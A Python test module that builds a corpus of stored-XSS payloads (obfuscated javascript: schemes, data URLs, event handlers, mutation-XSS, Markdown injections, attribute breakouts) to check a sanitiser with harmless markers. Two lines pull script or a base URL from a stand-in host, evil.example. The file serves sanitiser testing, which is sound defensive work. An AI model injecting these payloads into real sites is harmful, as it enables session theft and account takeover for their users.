"""S2: a corpus of stored-XSS payloads, built from templates × spellings. Every payload that would run
calls a marker the browser check sees: alert() (a dialog), window.__xss=1 or document.title='XSS'.

Sources of the tricks: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet and the
DOMPurify / ammonia mutation-XSS reports (MathML/SVG namespace confusion)."""

import base64

MARKERS = ("alert(1)", "window.__xss=1", "document.title='XSS'")

# `javascript:` as a browser still reads it: case, entities, tabs/newlines inside the scheme,
# leading spaces and control characters, URL-encoding (which a browser does NOT decode in the scheme,
# but a sloppy sanitiser might)
JS_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "JAVASCRIPT:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "java\rscript:",
    "jav&#x09;ascript:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106;&#0000097;vascript:",
    "javascript&colon;",
    "javascript&#58;",
    "javascript&#x3a;",
    "\x01javascript:",
    "%6Aavascript:",
    "vbscript:",
    "livescript:",
]
DATA_URLS = [
    "data:text/html," + "<script>alert(1)</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>alert(1)</script>").decode(),
    "DATA:text/html,<script>window.__xss=1</script>",
    "data:image/svg+xml;base64," + base64.b64encode(b"<svg onload=alert(1)>").decode(),
    "data:application/javascript,alert(1)",
]

TAGS = [
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<SCRIPT>document.title='XSS'</SCRIPT>",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<base href=javascript:alert(1)//>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<style>@import'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="x:expression(alert(1))">x</div>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
]

# event handlers on the elements that fire them without a click
HANDLERS = [
    ("img src=x", "onerror"),
    ("img src=x", "OnErRoR"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg/", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("iframe", "onload"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("a href=#", "onmouseover"),
    ("div", "onpointerenter"),
    ("marquee", "onstart"),
    ("style", "onload"),
    ("object data=x", "onerror"),
]


def _handler_payloads() -> list[str]:
    out = []
    for index, (tag, event) in enumerate(HANDLERS):
        marker = MARKERS[index % len(MARKERS)]
        name = tag.split()[0].split(">")[-1].lstrip("<").rstrip("/")
        out.append(f"<{tag} {event}={marker}>")
        out.append(f'<{tag} {event}="{marker}">x</{name}>')
        out.append(f"<{tag}\n{event}\t=\t{marker}>")
        out.append(f"<{tag}/{event}={marker}>")
    return out


def _url_payloads() -> list[str]:
    out = []
    for index, scheme in enumerate(JS_SCHEMES):
        marker = MARKERS[index % len(MARKERS)]
        out.append(f'<a href="{scheme}{marker}">html link {index}</a>')
        out.append(f"[md link {index}]({scheme}{marker})")
        out.append(f"![md image {index}]({scheme}{marker})")
        out.append(f"[ref link {index}][r{index}]\n\n[r{index}]: {scheme}{marker}")
        out.append(f"<{scheme}{marker}>")
    for index, url in enumerate(DATA_URLS):
        out.append(f"[data link {index}]({url.replace(' ', '%20')})")
        out.append(f"![data image {index}]({url})")
        out.append(f'<a href="{url}">data {index}</a>')
        out.append(f'<img src="{url}">')
    return out


MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](javascript:alert%281%29)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](javas\u000ccript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '![x" onerror="alert(1)](http://a.example/i.png)',
    '[x](http://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](http://a.example 'x\\' onmouseover=alert(1) x=\\'')",
    '[x](http://a.example (" onmouseover=alert(1) x="))',
    '[x"onmouseover="alert(1)](http://a.example)',
    "[<img src=x onerror=alert(1)>](http://a.example)",
    '[x](http://a.example/"onmouseover="alert(1))',
    "[x](http://a.example/'><script>alert(1)</script>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    '[x][1]\n\n[1]: http://a.example "\\" onmouseover=alert(1) \\""',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| <script>alert(1)</script> | b |",
    "# <img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "<details open ontoggle=alert(1)>\n\n*md inside html*\n\n</details>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    '[x](#" onclick="alert(1))',
]

BREAKING = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=window.__xss=1>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "` onmouseover=alert(1) x=`",
    '"autofocus onfocus=alert(1)//',
    "</a><img src=x onerror=alert(1)>",
    "</p></div></main><img src=x onerror=alert(1)>",
    '-->"><img src=x onerror=alert(1)>',
    "]]><img src=x onerror=alert(1)>",
    '\\"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}",
    "{{7*7}}",
    "{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "＜img src=x onerror=alert(1)＞",
    "<img src=x onerror=alert(1)//",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img\x0csrc=x onerror=alert(1)>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
]


def build_corpus() -> list[str]:
    seen: set[str] = set()
    corpus = []
    for payload in [*TAGS, *_handler_payloads(), *_url_payloads(), *MARKDOWN, *BREAKING]:
        if payload not in seen:
            seen.add(payload)
            corpus.append(payload)
    return corpus


CORPUS = build_corpus()


def chunks(payloads: list[str], *, limit: int, separator: str = "\n\n") -> list[str]:
    """Pack the payloads, in order, into texts of at most `limit` characters. A payload longer than
    the limit is cut to it (the field would refuse it whole)."""
    texts: list[str] = []
    current = ""
    for payload in payloads:
        payload = payload[:limit]
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) <= limit:
            current = candidate
        else:
            texts.append(current)
            current = payload
    if current:
        texts.append(current)
    return texts
